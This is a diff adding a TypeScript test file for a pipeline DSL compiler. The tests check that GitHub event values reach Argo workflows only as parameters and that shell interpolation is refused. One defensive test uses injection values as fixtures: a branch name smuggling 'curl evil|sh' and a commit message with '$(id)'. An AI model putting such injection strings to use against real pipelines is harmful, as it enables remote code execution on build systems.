@@ -1,0 +1,93 @@
+// p.trigger: a pipeline's GitHub trigger, its Sensor emitted and checked with the WorkflowTemplate, and the
+// rule that event values reach workflows only as parameters (argv/env), never as shell source.
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { container, github, param, pipeline, script, simulate, synth, text, type Sensor } from '@argots/dsl';
+import * as deliveries from '../simulate/deliveries.js';
+
+type Obj = Record<string, unknown>;
+const repo = 'Codertocat/Hello-World';
+const connection = { url: 'https://events.example.com', webhookSecret: { name: 'github-webhook', key: 'secret' }, githubApp: { appId: 1, installationId: 2, privateKey: { name: 'app', key: 'key' } } };
+
+const announce = container('announce', {
+  inputs: { branch: param.string(), message: param.string() },
+  container: (i) => ({ image: 'alpine:3.20', command: ['printf', '%s\n'], args: [i.branch], env: { MESSAGE: i.message } }),
+});
+
+function compile(value: unknown) {
+  return synth([{ value, exportName: 'default', file: 'pipelines/shop.ts' }]);
+}
+
+test('given p.trigger, then synth emits the WorkflowTemplate, its Sensor and EventSource, which agree', () => {
+  const r = compile(pipeline('hello-ci', (p) => {
+    const push = p.trigger(github.push({ repo, branches: ['**'] }), (e) => ({ branch: e.ref, message: e.head_commit.message, revision: e.after }), { github: connection });
+    p.task('announce', announce.call({ branch: push.branch, message: push.message }));
+  }));
+  assert.equal(r.diagnostics.filter((d) => d.severity === 'error'), []);
+  assert.equal(r.files.map((f) => f.path), ['event-source/github.yaml', 'sensor/hello-ci.yaml', 'workflow-template/hello-ci.yaml']);
+  const template = r.files.find((f) => f.kind === 'WorkflowTemplate')?.object as { spec: { arguments: { parameters: Obj[] } } };
+  assert.equal(template.spec.arguments.parameters.map((p) => p['name']), ['branch', 'message', 'revision']);
+  const sensor = r.files.find((f) => f.kind === 'Sensor')?.object as unknown as Sensor;
+  const after = (deliveries.pushToBranch().body as { after: string }).after;
+  const fired = simulate([sensor], deliveries.pushToBranch()).sensors[0]?.triggers[0];
+  assert.is(fired?.status, 'fires');
+  assert.equal(fired?.workflowParameters, { branch: 'refs/heads/master', message: 'Initial commit', revision: after });
+});
+
+test('given a hostile branch name and commit message, then they arrive verbatim as parameters, never as code', () => {
+  const r = compile(pipeline('hello-ci', (p) => {
+    const push = p.trigger(github.push({ repo, branches: ['**'] }), (e) => ({ branch: e.ref, message: e.head_commit.message }));
+    p.task('announce', announce.call({ branch: push.branch, message: push.message }));
+  }));
+  assert.equal(r.diagnostics.filter((d) => d.severity === 'error'), []);
+  const sensor = r.files.find((f) => f.kind === 'Sensor')?.object as unknown as Sensor;
+  const evil = deliveries.pushWith('x";curl evil|sh;"', 'fix: $(id)');
+  const fired = simulate([sensor], evil).sensors[0]?.triggers[0];
+  assert.equal(fired?.workflowParameters, { branch: 'refs/heads/x";curl evil|sh;"', message: 'fix: $(id)' });
+  const task = (r.files.find((f) => f.kind === 'WorkflowTemplate')?.object as { spec: { templates: Obj[] } }).spec.templates.find((t) => t['name'] === 'announce') as { container: { args: string[]; env: Obj[] } };
+  assert.equal(task.container.args, ['{{inputs.parameters.branch}}'], 'one argv element, no shell');
+});
+
+test('given an event value inside script source, then the compiler refuses it with ARG350 and a hint', () => {
+  const checkout = script('checkout', {
+    inputs: { branch: param.string() },
+    script: (i) => ({ image: 'alpine/git:2.45', command: ['sh'], source: text`git checkout ${i.branch}` }),
+  });
+  const r = compile(pipeline('hello-ci', (p) => {
+    const push = p.trigger(github.push({ repo, branches: ['**'] }), (e) => ({ branch: e.ref }));
+    p.task('checkout', checkout.call({ branch: push.branch }));
+  }));
+  const d = r.diagnostics.find((x) => x.code === 'ARG350');
+  assert.ok(d, 'ARG350 reported');
+  assert.is(d?.path, 'spec.templates[1].script.source');
+  assert.match(d?.message ?? '', 'template "checkout" puts "{{inputs.parameters.branch}}"');
+  assert.match(d?.message ?? '', 'filled from the event by Sensor "hello-ci"');
+  assert.match(d?.hint ?? '', 'environment variable');
+  assert.equal(r.files, [], 'nothing is written');
+});
+
+test('given an event value inside a shell -c string, then the compiler refuses it with ARG350', () => {
+  const echo = container('echo', {
+    inputs: { message: param.string() },
+    container: (i) => ({ image: 'alpine:3.20', command: ['sh', '-c'], args: [text`echo ${i.message}`] }),
+  });
+  const r = compile(pipeline('hello-ci', (p) => {
+    const push = p.trigger(github.push({ repo, branches: ['**'] }), (e) => ({ message: e.head_commit.message }));
+    p.task('echo', echo.call({ message: push.message }));
+  }));
+  const d = r.diagnostics.find((x) => x.code === 'ARG350');
+  assert.match(d?.message ?? '', 'inside the "sh" -c string');
+  assert.ok(d?.source?.file, 'points at the authoring source');
+});
+
+test('given a Sensor written by hand that disagrees with the template, then synth reports it', () => {
+  const r = compile(pipeline('hello-ci', (p) => {
+    const push = p.trigger(github.push({ repo, branches: ['main'] }), (e) => ({ revision: e.after }));
+    p.param('env', param.string());
+    p.task('announce', announce.call({ branch: push.revision, message: 'hi' }));
+  }));
+  const d = r.diagnostics.find((x) => x.code === 'ARG332');
+  assert.match(d?.message ?? '', 'requires parameter "env", which trigger "hello-ci" does not fill');
+});
+
+test.run();
